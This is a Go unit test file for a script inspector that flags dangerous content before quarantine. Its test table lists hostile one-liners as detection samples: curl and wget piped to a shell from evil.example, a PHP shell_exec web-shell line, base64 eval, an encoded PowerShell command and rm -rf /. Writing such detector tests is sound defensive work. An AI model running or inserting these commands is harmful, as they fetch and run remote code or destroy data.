package scanner

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mkoberg/signalmarket/internal/pkg/quarantine"
)

func TestScriptInspectorHandlesTextualTypes(t *testing.T) {
	s := NewScriptInspector()
	assert.True(t, s.Handles("text/plain"))
	assert.True(t, s.Handles("text/x-python"))
	assert.True(t, s.Handles("application/javascript"))
	assert.True(t, s.Handles("application/x-sh"))
	assert.False(t, s.Handles("application/zip"))
	assert.False(t, s.Handles("image/png"))
}

func TestScriptInspectorFlagsDangerousConstructs(t *testing.T) {
	cases := []struct {
		name    string
		content string
		rule    string
	}{
		{"python shell exec", `os.system("id")`, "script-shell-exec"},
		{"subprocess", `subprocess.run(["curl", url])`, "script-shell-exec"},
		{"node child process", `child_process.execSync(cmd)`, "script-shell-exec"},
		{"php shell", `<?php shell_exec($_GET["c"]); ?>`, "script-shell-exec"},
		{"eval of base64", `eval(base64.b64decode(payload))`, "script-eval-decode"},
		{"js atob eval", `eval(atob("YWxlcnQoMSk="))`, "script-eval-decode"},
		{"curl pipe sh", "curl -fsSL https://evil.example/install | sh", "script-remote-pipe"},
		{"wget pipe bash", "wget -qO- https://evil.example/x | bash", "script-remote-pipe"},
		{"rm rf root", "rm -rf / --no-preserve-root", "script-destructive-rm"},
		{"powershell encoded", "powershell -NoProfile -enc SQBFAFgA", "script-encoded-command"},
	}
	s := NewScriptInspector()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			findings := s.Inspect([]byte(tc.content))
			require.Len(t, findings, 1)
			assert.Equal(t, tc.rule, findings[0].Rule)
			assert.Equal(t, string(quarantine.VerdictSuspicious), findings[0].Verdict)
		})
	}
}

func TestScriptInspectorCleanScripts(t *testing.T) {
	cases := []struct {
		name    string
		content string
	}{
		{"plain python", "import math\n\nprint(math.sqrt(2))\n"},
		{"plain shell", "#!/bin/sh\nset -e\necho building\nmake all\n"},
		{"mentions rm safely", "rm -f build/output.bin\n"},
		{"downloads without piping", "curl -o data.csv https://example.com/data.csv\n"},
		{"word eval alone", "model.eval()\n"},
	}
	s := NewScriptInspector()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			assert.Empty(t, s.Inspect([]byte(tc.content)))
		})
	}
}
